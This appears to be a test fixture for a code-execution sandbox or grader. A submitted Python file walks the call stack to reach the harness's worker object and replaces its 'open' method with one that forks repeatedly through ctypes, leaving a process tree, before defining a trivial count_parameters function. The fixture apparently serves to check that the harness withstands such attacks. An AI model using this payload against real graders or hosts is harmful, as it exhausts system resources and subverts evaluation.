# expect: failed * count_parameters
# attack: Leaves a tree of processes that fork whenever a copy is asked for, then ends.
import ctypes
import os
import sys
import time

fork = ctypes.CDLL(None).fork
frame = sys._getframe()
while not (frame.f_code.co_name == "run" and hasattr(frame.f_locals.get("self"), "channel")):
    frame = frame.f_back
worker = frame.f_locals["self"]


def opened(self, frame):
    for _ in range(8):
        fork()
    time.sleep(0.1)
    os._exit(0)


type(worker).open = opened


def count_parameters(layer_sizes):
    return sum((a + 1) * b for a, b in zip(layer_sizes, layer_sizes[1:]))
